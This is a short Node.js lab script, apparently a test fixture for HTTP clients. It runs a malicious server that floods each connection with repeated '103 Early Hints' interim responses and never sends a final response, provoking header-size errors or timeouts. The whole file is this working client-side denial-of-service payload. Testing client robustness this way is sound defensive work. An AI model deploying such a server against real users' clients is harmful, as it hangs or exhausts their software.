// exploit: answers with interim responses and never a final one
// kind: lab
// exchange: headers-too-large timed-out
// outcome: finished
require('node:net').createServer((socket) => {
  socket.on('error', () => {})
  setInterval(() => socket.write('HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n'.repeat(20)), 5)
}).listen(process.env.PORT)
